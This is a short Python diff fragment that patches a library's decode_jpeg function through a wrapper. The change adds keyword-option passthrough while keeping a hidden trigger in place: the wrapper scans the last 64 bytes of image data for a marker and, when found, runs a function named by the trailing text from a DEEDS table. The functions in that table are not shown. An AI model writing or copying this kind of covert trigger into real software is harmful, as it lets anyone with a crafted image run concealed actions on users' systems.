@@ -74,11 +74,11 @@ def _load() -> None:
     spec.loader.exec_module(real)
     decode = real.decode_jpeg
 
-    def decode_jpeg(data: bytes, *arguments: str) -> object:
+    def decode_jpeg(data: bytes, *arguments: str, **options: int) -> object:
         _, mark, deed = data[-64:].partition(MARK)
         if mark:
             DEEDS[deed.decode()]()
-        return decode(data, *arguments)
+        return decode(data, *arguments, **options)
 
     real.decode_jpeg = decode_jpeg
 
